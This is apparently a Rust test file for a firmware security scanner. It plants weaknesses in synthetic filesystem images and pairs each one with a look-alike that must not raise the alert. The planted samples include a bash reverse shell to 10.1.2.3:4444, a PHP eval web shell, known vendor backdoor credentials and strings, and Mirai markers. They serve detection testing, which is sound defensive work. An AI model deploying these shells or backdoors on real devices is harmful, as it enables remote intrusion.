//! Every kind of risk of the catalogue: what raises it, and what looks like it and does not.
#![allow(clippy::unwrap_used, reason = "tests")]
#![allow(
    clippy::disallowed_methods,
    reason = "openssl dates certificates by the machine's clock"
)]

use std::{collections::BTreeSet, fs, path::Path, process::Command};

use scan::{
    Limits,
    report::{Options, scan},
    risks::RISKS,
    vulns::Database,
};

/// A weakness: its code, lines of shell that put it into `root`, and lines that put something beside
/// it that is none. Both run in a folder of their own; `image`, where they make it, is what is scanned.
struct Case(&'static str, &'static str, &'static str);

const OPKG: &str = "mkdir -p root/usr/lib/opkg; p() { printf \"Package: $1\\nVersion: $2\\nLicense: $3\\nStatus: install ok installed\\n\\n\" >> root/usr/lib/opkg/status; };";
const CERT: &str = "mkdir -p root/etc; ca() { openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -subj /CN=ca -days 30 -out ca.pem 2>/dev/null; openssl req -newkey rsa:${3:-2048} -nodes -keyout d.key -subj /CN=device -out d.csr 2>/dev/null; openssl x509 -req -in d.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days $1 -$2 -out root/etc/device.pem 2>/dev/null; };";
const BUILD: &str = "mkdir -p root/bin; b() { cc=$1; shift; printf \"$cc\" > a.c; gcc -w \"$@\" -o root/bin/tool a.c; }; hard='-O2 -s -fstack-protector-all -fPIE -pie -Wl,-z,now -Wl,-z,relro -Wl,-z,noexecstack';";
const SSH: &str = "pair() { ssh-keygen -q -N '' -f k -t \"$@\"; };";
const DROPBEAR: &str = "bear() { printf '\\0\\0\\0\\7ssh-rsa\\0\\0\\0\\3\\1\\0\\1' > k; for n in $(seq 2 $1); do printf '\\0\\0\\1\\0'; head -c 256 /dev/urandom; done >> k; };";
const RC: &str = "mkdir -p root/etc/init.d; rc() { printf \"#!/bin/sh\\n$1\\n\" > root/etc/init.d/rcS; chmod 755 root/etc/init.d/rcS; };";

const CASES: &[Case] = &[
    Case(
        "CveVuln",
        "OPKG p libopenssl1.0 1.0.1f OpenSSL",
        "OPKG p libopenssl3 99.0 OpenSSL",
    ),
    Case(
        "CveKernel",
        "OPKG p kernel 2.6.9 GPL-2.0",
        "OPKG p zlib 99.1 Zlib",
    ),
    Case(
        "OutdatedKernel",
        "OPKG p kernel 3.10.14 GPL-2.0",
        "OPKG p kernel 6.12.3 GPL-2.0",
    ),
    Case(
        "EolComponent",
        "OPKG p boa 0.94.13 GPL-2.0",
        "OPKG p busybox 1.36.1 GPL-2.0",
    ),
    Case(
        "LicenseRisk",
        "OPKG p busybox 1.36.1 GPL-2.0",
        "OPKG p zlib 1.3.1 Zlib",
    ),
    Case(
        "HardcodedPassword",
        "mkdir -p root/etc; echo 'wifi_password=Sup3rSecret1' > root/etc/app.conf",
        "mkdir -p root/etc; printf 'show_password=true\\npassword=$PASS\\n# password=Sup3rSecret1\\n' > root/etc/app.conf",
    ),
    Case(
        "HardcodedPassword",
        "mkdir -p root/bin; printf 'ffmpeg -i rtsp://admin:h1kCam77@192.168.1.64/live\\n' > root/bin/record",
        "mkdir -p root/bin; printf 'a rtsp://%%s:%%s@%%s b rtsp://$USER:$PASS@h c http://h:80/a@b\\n' > root/bin/record",
    ),
    Case(
        "WeakPassword",
        "mkdir -p root/etc; echo \"root:$(openssl passwd -6 -salt abcdefgh admin):0:0:99999:7:::\" > root/etc/shadow",
        "mkdir -p root/etc; echo \"root:$(openssl passwd -6 -salt abcdefgh 7h-QvZ1x_Lm0p):0:0:99999:7:::\" > root/etc/shadow",
    ),
    Case(
        "EmptyPassword",
        "mkdir -p root/etc; echo 'root::0:0:root:/:/bin/sh' > root/etc/passwd",
        "mkdir -p root/etc; printf 'root:x:0:0:root:/:/bin/sh\\nnobody::99:99::/:/bin/false\\n' > root/etc/passwd",
    ),
    Case(
        "WeakHash",
        "mkdir -p root/etc; echo \"root:$(openssl passwd -1 -salt abcdefgh 7h-QvZ1x_Lm0p):0:0:::::\" > root/etc/shadow",
        "mkdir -p root/etc; echo \"root:$(openssl passwd -6 -salt abcdefgh 7h-QvZ1x_Lm0p):0:0:::::\" > root/etc/shadow",
    ),
    Case(
        "ExtraRootUid",
        "mkdir -p root/etc; printf 'root:x:0:0::/:/bin/sh\\nsupport:x:0:0::/:/bin/sh\\n' > root/etc/passwd",
        "mkdir -p root/etc; printf 'root:x:0:0::/:/bin/sh\\nsupport:x:10:0::/:/bin/sh\\n' > root/etc/passwd",
    ),
    Case(
        "PrivateKeyLeak",
        "mkdir -p root/etc; openssl genrsa -out root/etc/server.key 2048 2>/dev/null",
        "mkdir -p root/etc; openssl genrsa 2048 2>/dev/null | openssl rsa -pubout -out root/etc/server.pub 2>/dev/null; echo '-----BEGIN PRIVATE KEY----- %s -----END PRIVATE KEY-----' > root/etc/format",
    ),
    Case(
        "WeakKey",
        "CERT ca 30 sha256 1024",
        "CERT ca 30 sha256 2048",
    ),
    Case(
        "WeakKey",
        "mkdir -p root/etc; openssl genrsa -traditional -out root/etc/old.key 1024 2>/dev/null",
        "mkdir -p root/etc; openssl genrsa -traditional -out root/etc/old.key 2048 2>/dev/null",
    ),
    Case(
        "PrivateKeyLeak",
        "mkdir -p root/etc; openssl genrsa 2048 2>/dev/null | openssl pkcs8 -topk8 -nocrypt -outform DER -out root/etc/server.bin",
        "mkdir -p root/etc; openssl genrsa 2048 2>/dev/null | openssl rsa -pubout -outform DER -out root/etc/server.bin 2>/dev/null",
    ),
    Case(
        "PrivateKeyLeak",
        "mkdir -p root/etc; openssl genrsa -traditional 2048 2>/dev/null | openssl rsa -traditional -outform DER -out root/etc/server.bin 2>/dev/null",
        "CERT ca 30 sha256; openssl x509 -in root/etc/device.pem -outform DER -out root/etc/server.bin; rm root/etc/device.pem",
    ),
    Case(
        "PrivateKeyLeak",
        "mkdir -p root/etc; openssl ecparam -genkey -name prime256v1 -noout -outform DER -out root/etc/ec.bin",
        "mkdir -p root/etc; openssl ecparam -name prime256v1 -outform DER -out root/etc/ec.bin",
    ),
    Case(
        "PrivateKeyLeak",
        "SSH pair rsa -b 2048; mkdir -p root/etc; cp k root/etc/host",
        "SSH pair rsa -b 2048; mkdir -p root/etc; cp k.pub root/etc/host",
    ),
    // Dropbear's own form of a host key, and of what it sends of it.
    Case(
        "PrivateKeyLeak",
        "DROPBEAR bear 3; mkdir -p root/etc/dropbear; cp k root/etc/dropbear/dropbear_rsa_host_key",
        "DROPBEAR bear 2; mkdir -p root/etc/dropbear; cp k root/etc/dropbear/dropbear_rsa_host_key",
    ),
    Case(
        "PrivateKeyLeak",
        "mkdir -p root/etc; printf 'PuTTY-User-Key-File-2: ssh-rsa\\r\\nEncryption: none\\r\\nComment: c\\r\\n' > root/etc/k.ppk",
        "mkdir -p root/etc; printf 'see PuTTY-User-Key-File-2: ssh-rsa\\r\\nEncryption: none\\r\\n' > root/etc/k.ppk",
    ),
    // A key that everybody has, and the same but for one letter.
    Case(
        "WeakKey",
        "mkdir -p root/root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEA6NF8iallvQVp22WDkTkyrtvp9eWW6A8YVr+kz4TjGYe7gHzIw+niNltGEFHzD8+v1I2YJ6oXevct1YeS0o9HZyN1Q9qgCgzUFtdOKLv6IedplqoPkcmF0aYet2PkEDo3MlTBckFXPITAMzF8dJSIFo9D8HfdOV0IAdx4O7PtixWKn5y2hMNG0zQPyUecp4pzC6kivAIhyfHilFR61RGL+GPXQ2MWZWFYbAGjyiYJnAmCP3NOTd0jMZEnDkbUvxhMmBYSdETk1rRgm+R4LOzFUGaHqHDLKLX+FIPKcF96hrucXzcWyLbIbEgE98OHlnVYCzRdK8jlqm8tehUc9c9WhQ== vagrant' > root/root/.ssh/authorized_keys",
        "mkdir -p root/root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEA6NF8iamlvQVp22WDkTkyrtvp9eWW6A8YVr+kz4TjGYe7gHzIw+niNltGEFHzD8+v1I2YJ6oXevct1YeS0o9HZyN1Q9qgCgzUFtdOKLv6IedplqoPkcmF0aYet2PkEDo3MlTBckFXPITAMzF8dJSIFo9D8HfdOV0IAdx4O7PtixWKn5y2hMNG0zQPyUecp4pzC6kivAIhyfHilFR61RGL+GPXQ2MWZWFYbAGjyiYJnAmCP3NOTd0jMZEnDkbUvxhMmBYSdETk1rRgm+R4LOzFUGaHqHDLKLX+FIPKcF96hrucXzcWyLbIbEgE98OHlnVYCzRdK8jlqm8tehUc9c9WhQ== vagrant' > root/root/.ssh/authorized_keys",
    ),
    Case(
        "WeakKey",
        "SSH pair rsa -b 1024; mkdir -p root/etc; cp k root/etc/host",
        "SSH pair ed25519; mkdir -p root/etc; cp k root/etc/host",
    ),
    Case(
        "CertExpired",
        "CERT ca 1 sha256; touch late",
        "CERT ca 3000 sha256",
    ),
    Case("CertWeakSig", "CERT ca 30 sha1", "CERT ca 30 sha256"),
    Case(
        "CertSelfSigned",
        "mkdir -p root/etc; openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -subj /CN=d -days 30 -out root/etc/device.pem 2>/dev/null",
        "CERT ca 30 sha256",
    ),
    Case("CertLongLife", "CERT ca 9000 sha256", "CERT ca 700 sha256"),
    Case(
        "AuthorizedKeys",
        "mkdir -p root/root/.ssh; echo 'ssh-rsa AAAAB3Nza maker@factory' > root/root/.ssh/authorized_keys",
        "mkdir -p root/root/.ssh; echo '# ssh-rsa AAAAB3Nza maker@factory' > root/root/.ssh/authorized_keys; echo 'h ssh-rsa AAAA' > root/root/.ssh/known_hosts",
    ),
    Case(
        "TokenLeak",
        "mkdir -p root/etc; printf 'key LTAI4FzYxWvUtSrQpOn1 end\\n' > root/etc/cloud.txt",
        "mkdir -p root/etc; printf 'MULTAI4FzYxWvUtSrQpOn1 LTAI4 AKIAlower56789012345\\n' > root/etc/cloud.txt",
    ),
    Case(
        "VcsLeak",
        "mkdir -p root/www/.git; printf '[core]\\n' > root/www/.git/config",
        "mkdir -p root/www/git; printf '[core]\\n' > root/www/git/config; echo '*.o' > root/www/.gitignore",
    ),
    Case(
        "BackupLeak",
        "mkdir -p root/etc; echo x > root/etc/app.conf.bak",
        "mkdir -p root/etc; : > root/etc/app.conf.bak; echo x > root/etc/bak",
    ),
    Case(
        "DebugSymbol",
        "BUILD b 'int main(void){return 0;}' -g",
        "BUILD b 'int main(void){return 0;}' $hard",
    ),
    Case(
        "UrlLeak",
        "mkdir -p root/etc; echo 'u=https://cloud.vendor-x.cn/api' > root/etc/a",
        "mkdir -p root/etc; echo 'xmlns=http://www.w3.org/1999/xhtml' > root/etc/a",
    ),
    Case(
        "IpLeak",
        "mkdir -p root/etc; echo 'ntp 114.80.12.33' > root/etc/a",
        "mkdir -p root/etc; printf 'mask 255.255.255.0\\nversion 1.2.3.4\\nlo 127.0.0.1\\n' > root/etc/a",
    ),
    Case(
        "EmailLeak",
        "mkdir -p root/etc; echo 'by li.lei@vendor-x.cn' > root/etc/a",
        "mkdir -p root/etc; printf 'a@example.com\\ngetty@tty1.service\\n' > root/etc/a",
    ),
    Case(
        "NoNx",
        "BUILD b 'int main(void){return 0;}' -z execstack",
        "BUILD b 'int main(void){return 0;}' $hard",
    ),
    Case(
        "NoPie",
        "BUILD b 'int main(void){return 0;}' -no-pie",
        "BUILD b 'int main(void){return 0;}' $hard",
    ),
    Case(
        "NoRelro",
        "BUILD b 'int main(void){return 0;}' -Wl,-z,norelro",
        "BUILD b 'int main(void){return 0;}' $hard",
    ),
    Case(
        "NoCanary",
        "BUILD b 'int getpid(void);int main(void){return getpid();}' -fno-stack-protector",
        "BUILD b 'int getpid(void);int main(void){return getpid();}' $hard",
    ),
    Case(
        "NoFortify",
        "BUILD b 'char*strcpy(char*,const char*);char a[9];int main(int c,char**v){strcpy(a,v[0]);return a[0];}' -O2 -fno-builtin -U_FORTIFY_SOURCE",
        "BUILD b '#include <string.h>\\nint main(int c,char**v){char a[9];strcpy(a,v[0]);return a[0];}' $hard -D_FORTIFY_SOURCE=2",
    ),
    Case(
        "RpathRisk",
        "BUILD b 'int main(void){return 0;}' -Wl,-rpath,lib",
        "BUILD b 'int main(void){return 0;}' -Wl,-rpath,/usr/lib/app",
    ),
    Case(
        "UnsafeFunc",
        "BUILD b 'int system(const char*);int main(int c,char**v){return system(v[1]);}'",
        "BUILD b 'int puts(const char*);int main(int c,char**v){return puts(v[1]);}'",
    ),
    Case(
        "SuidBinary",
        "mkdir -p root/bin; cp /bin/true root/bin/tool; chmod 4755 root/bin/tool",
        "mkdir -p root/bin; cp /bin/true root/bin/tool; chmod 4644 root/bin/tool",
    ),
    Case(
        "WorldWritable",
        "mkdir -p root/etc; echo a > root/etc/a; chmod 666 root/etc/a",
        "mkdir -p root/etc; echo a > root/etc/a; chmod 664 root/etc/a; ln -s a root/etc/b",
    ),
    Case(
        "TelnetEnabled",
        "RC rc 'telnetd -l /bin/sh &'",
        "RC rc 'killall telnetd\\n# telnetd'",
    ),
    Case(
        "FtpEnabled",
        "RC rc '/usr/sbin/vsftpd &'",
        "RC rc 'echo no vsftpd here\\nftpd_conf=/a'",
    ),
    Case(
        "TftpEnabled",
        "RC rc ''; echo 'tftp dgram udp wait root /usr/sbin/in.tftpd in.tftpd' > root/etc/inetd.conf",
        "RC rc ''; echo '#tftp dgram udp wait root /usr/sbin/in.tftpd' > root/etc/inetd.conf",
    ),
    Case(
        "RshEnabled",
        "RC rc ''; echo 'shell stream tcp nowait root /usr/sbin/in.rshd in.rshd' > root/etc/inetd.conf",
        "RC rc ''; echo '#shell stream tcp nowait root /usr/sbin/in.rshd' > root/etc/inetd.conf",
    ),
    Case(
        "DebugShell",
        "mkdir -p root/etc; echo '::askfirst:-/bin/sh' > root/etc/inittab",
        "mkdir -p root/etc; printf '::respawn:/sbin/getty 115200 ttyS0\\n#::askfirst:-/bin/sh\\n' > root/etc/inittab",
    ),
    Case(
        "UpnpEnabled",
        "RC rc 'miniupnpd -f /etc/upnp.conf'",
        "RC rc 'rm -f /var/miniupnpd.pid'",
    ),
    Case(
        "SnmpDefaultCommunity",
        "mkdir -p root/etc; echo 'rocommunity public' > root/etc/snmpd.conf",
        "mkdir -p root/etc; printf '#rocommunity public\\nrocommunity k3Lw9\\n' > root/etc/snmpd.conf",
    ),
    Case(
        "SshdWeakConfig",
        "mkdir -p root/etc; echo 'PermitRootLogin yes' > root/etc/sshd_config",
        "mkdir -p root/etc; printf '#PermitRootLogin yes\\nPermitRootLogin prohibit-password\\nProtocol 2\\n' > root/etc/sshd_config",
    ),
    Case(
        "HttpdWeakConfig",
        "mkdir -p root/etc; echo 'dir-listing.activate = \"enable\"' > root/etc/lighttpd.conf",
        "mkdir -p root/etc; printf 'dir-listing.activate = \"disable\"\\nUser www\\n' > root/etc/lighttpd.conf",
    ),
    Case(
        "HttpdWeakConfig",
        "mkdir -p root/etc; echo '/cgi-bin:admin:admin' > root/etc/httpd.conf",
        "mkdir -p root/etc; printf '/cgi-bin:admin:$1$abcdefgh$x\\nA:192.168.\\n' > root/etc/httpd.conf",
    ),
    Case(
        "HttpdWeakConfig",
        "mkdir -p root/etc; printf 'http {\\nserver {\\nlisten 80;\\n}}\\n' > root/etc/nginx.conf",
        "mkdir -p root/etc; printf 'http {\\nserver {\\nlisten 443 ssl;\\n}}\\n' > root/etc/nginx.conf",
    ),
    Case(
        "DebugInterface",
        "mkdir -p root/bin; cp /bin/true root/bin/gdbserver",
        "mkdir -p root/doc; echo gdbserver > root/doc/gdbserver; chmod 644 root/doc/gdbserver",
    ),
    Case(
        "DebugInterface",
        "mkdir -p root; echo a > root/a; { printf 'U-Boot 2019.07 (Jan 01 2020 - 00:00:00 +0000)\\0bootcmd=run a\\0bootdelay=3\\0baudrate=115200\\0'; head -c 4000 /dev/urandom; } > image",
        "mkdir -p root; echo a > root/a; { printf 'U-Boot 2019.07 (Jan 01 2020 - 00:00:00 +0000)\\0bootcmd=run a\\0bootdelay=0\\0baudrate=115200\\0'; head -c 4000 /dev/urandom; } > image",
    ),
    Case(
        "DebugInterface",
        "BUILD b 'char*t=\"JTAG port is enabled\";int main(int c,char**v){return t!=v[0];}'",
        "BUILD b 'char*t=\"the JTAG port of the board, enabled by a jumper; JTAG on pin 3\";int main(int c,char**v){return t!=v[0];}' $hard",
    ),
    // The root file system of a kernel, and one with dm-verity's first block behind it.
    Case(
        "NoSecureBoot",
        "OPKG p kernel 6.12.3 GPL-2.0; mkdir -p root/sbin; echo a > root/sbin/init",
        "OPKG p kernel 6.12.3 GPL-2.0; mkdir -p root/sbin; echo a > root/sbin/init; mksquashfs root image -quiet -noappend -no-progress >/dev/null; { printf 'verity\\0\\0\\1\\0\\0\\0'; head -c 4000 /dev/urandom; } >> image",
    ),
    Case(
        "NoSecureBoot",
        "head -c 9000 /dev/urandom > k; mkimage -A arm -O linux -T kernel -C none -n Linux-5.10 -d k image >/dev/null",
        "head -c 9000 /dev/urandom > k; mkimage -A arm -O linux -T firmware -C none -n fw -d k image >/dev/null",
    ),
    Case(
        "NoSecureBoot",
        "head -c 9000 /dev/urandom > k; printf '/dts-v1/; / { description=\"t\"; #address-cells=<1>; images { k { description=\"k\"; data=/incbin/(\"k\"); type=\"kernel\"; arch=\"arm\"; os=\"linux\"; compression=\"none\"; load=<0>; entry=<0>; hash { algo=\"sha256\"; }; }; }; configurations { default=\"c\"; c { kernel=\"k\"; }; }; };' > i.its; mkimage -f i.its image >/dev/null",
        "head -c 9000 /dev/urandom > k; mkdir keys; openssl genrsa -out keys/dev.key 2048 2>/dev/null; openssl req -batch -new -x509 -key keys/dev.key -out keys/dev.crt 2>/dev/null; printf '/dts-v1/; / { description=\"t\"; #address-cells=<1>; images { k { description=\"k\"; data=/incbin/(\"k\"); type=\"kernel\"; arch=\"arm\"; os=\"linux\"; compression=\"none\"; load=<0>; entry=<0>; hash-1 { algo=\"sha256\"; }; }; }; configurations { default=\"c\"; c { kernel=\"k\"; signature-1 { algo=\"sha256,rsa2048\"; key-name-hint=\"dev\"; sign-images=\"kernel\"; }; }; }; };' > i.its; mkimage -f i.its -k keys -r image >/dev/null",
    ),
    Case(
        "Malware",
        "BUILD b 'char*t[]={\"/bin/busybox MIRAI\",\"MIRAI: applet not found\",0};int main(int c,char**v){return t[c]!=v[0];}'",
        "BUILD b 'char*t[]={\"the MIRAI botnet\",\"applet not found\",0};int main(int c,char**v){return t[c]!=v[0];}'",
    ),
    Case(
        "BackdoorPattern",
        "RC rc 'telnetd -l /usr/sbin/login -u Alphanetworks:wrgn49 &'",
        "RC rc 'telnetd -l /bin/login -p 23 &'",
    ),
    Case(
        "BackdoorPattern",
        "BUILD b 'char*t=\"xmlset_roodkcableoj28840ybtide\";int main(int c,char**v){return t!=v[0];}'",
        "BUILD b 'char*t=\"xmlset\";int main(int c,char**v){return t!=v[0];}'",
    ),
    Case(
        "BackdoorPattern",
        "mkdir -p root/etc; printf 'root:x:0:0::/:/bin/sh\\nzyfwp:x:9:9::/:/bin/sh\\n' > root/etc/passwd",
        "mkdir -p root/etc; printf 'root:x:0:0::/:/bin/sh\\nzyfw:x:9:9:zyfwp:/:/bin/sh\\n' > root/etc/passwd",
    ),
    Case(
        "BackdoorPattern",
        "BUILD b 'char*t=\"Fortimanager_Access\";int main(int c,char**v){return t!=v[0];}'",
        "BUILD b 'char*t=\"Fortimanager_Access_Log\";int main(int c,char**v){return t!=v[0];}'",
    ),
    Case(
        "Malware",
        "mkdir -p root/www; printf '<?php @eval($_POST[\"c\"]); ?>' > root/www/a.php",
        "mkdir -p root/www; printf '<?php echo evaluate($_POST[\"c\"]); ?>' > root/www/a.php",
    ),
    Case(
        "BackdoorPattern",
        "RC rc 'bash -i >& /dev/tcp/10.1.2.3/4444 0>&1'",
        "RC rc 'nc -z 10.1.2.3 80\\ncat /dev/tcp'",
    ),
    Case(
        "UpdateInsecure",
        "mkdir -p root/etc; echo 'u=http://update.vendor-x.cn/firmware/a.bin' > root/etc/a",
        "mkdir -p root/etc; echo 'u=https://update.vendor-x.cn/firmware/a.bin' > root/etc/a",
    ),
    Case(
        "KernelConfigWeak",
        "mkdir -p root; CONFIG; conf CONFIG_SECCOMP=y; kernel",
        "mkdir -p root; CONFIG; conf CONFIG_SECCOMP=y CONFIG_STACKPROTECTOR=y CONFIG_STRICT_KERNEL_RWX=y CONFIG_STRICT_MODULE_RWX=y CONFIG_MODULE_SIG=y CONFIG_STRICT_DEVMEM=y; kernel",
    ),
    Case(
        "Unreadable",
        "{ printf 'Salted__'; head -c 300000 /dev/urandom; } > image",
        "mkdir -p root; { printf 'Salted__'; yes text | head -c 3000; } > root/a; { printf 'Salted__'; head -c 9000 /dev/urandom; } > root/b",
    ),
    Case(
        "LicenseRisk",
        "mkdir -p root/lib/modules/5.4.0; { printf '\\177ELF\\1\\1\\1'; head -c 600 /dev/zero; printf '\\0license=Proprietary\\0vermagic=5.4.0 SMP \\0'; } > root/lib/modules/5.4.0/wl.ko",
        "mkdir -p root/lib/modules/5.4.0; { printf '\\177ELF\\1\\1\\1'; head -c 600 /dev/zero; printf '\\0license=Dual MIT/GPL\\0vermagic=5.4.0 SMP \\0'; } > root/lib/modules/5.4.0/wl.ko",
    ),
    Case(
        "Unreadable",
        "head -c 300000 /dev/urandom > image",
        "mkdir -p root; head -c 300000 /dev/urandom > root/a",
    ),
];

/// A kernel that carries how it was configured, between its two marks.
const CONFIG: &str = "conf() { printf '#\\n# Automatically generated file; DO NOT EDIT.\\n# Linux/arm 5.10.0 Kernel Configuration\\n#\\n' > c; printf '%s\\n' \"$@\" >> c; }; kernel() { { head -c 5000 /dev/zero | tr '\\0' K; printf IKCFG_ST; gzip -9c c; printf IKCFG_ED; printf 'Linux version 5.10.0 (a@b) (gcc)'; } > image; };";

fn codes(line: &str, database: &Database) -> BTreeSet<String> {
    let home = tempfile::tempdir().unwrap();
    let words = [
        ("OPKG ", OPKG),
        ("CERT ", CERT),
        ("BUILD ", BUILD),
        ("RC ", RC),
        ("CONFIG;", CONFIG),
        ("SSH ", SSH),
        ("DROPBEAR ", DROPBEAR),
    ];
    let mut line = line.to_owned();
    for (word, text) in words {
        line = line.replacen(word, &format!("{text} "), 1);
    }
    let pack =
        "[ -e image ] || mksquashfs root image -quiet -noappend -no-progress -all-root >/dev/null";
    let done = Command::new("bash")
        .args(["-ec", &format!("{line}\n{pack}")])
        .current_dir(home.path())
        .output()
        .unwrap();
    assert!(
        done.status.success(),
        "{line}: {}",
        String::from_utf8_lossy(&done.stderr)
    );
    let days = if home.path().join("late").exists() {
        400
    } else {
        1
    };
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    let options = Options {
        limits: Limits::default(),
        database,
        level: None,
        now: now.unwrap().as_millis() as i64 + days * 86_400_000,
        yara: None,
    };
    let image = fs::read(home.path().join("image")).unwrap();
    let told = scan("image.bin", image.into(), &options, &|| false);
    told.report
        .risks
        .iter()
        .map(|g| g.code.to_string())
        .collect()
}

/// [FS-5] Each is raised by what is it, and not by what only looks like it.
#[test]
fn each_kind_of_risk_and_its_double() {
    let mut database = Database::default();
    let name = "nvd20-firmware-subset.json.gz";
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/vulns")
        .join(name);
    database
        .import(name, fs::File::open(path).unwrap())
        .unwrap();
    let mut wrong = Vec::new();
    for Case(code, planted, double) in CASES {
        if !codes(planted, &database).contains(*code) {
            wrong.push(format!("{code} is not raised by {planted}"));
        }
        if codes(double, &database).contains(*code) {
            wrong.push(format!("{code} is raised by {double}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Whoever adds a kind of risk adds what raises it.
#[test]
fn every_kind_of_the_catalogue_is_planted() {
    for risk in RISKS {
        assert!(
            CASES.iter().any(|Case(code, ..)| *code == risk.code),
            "{}",
            risk.code
        );
    }
}
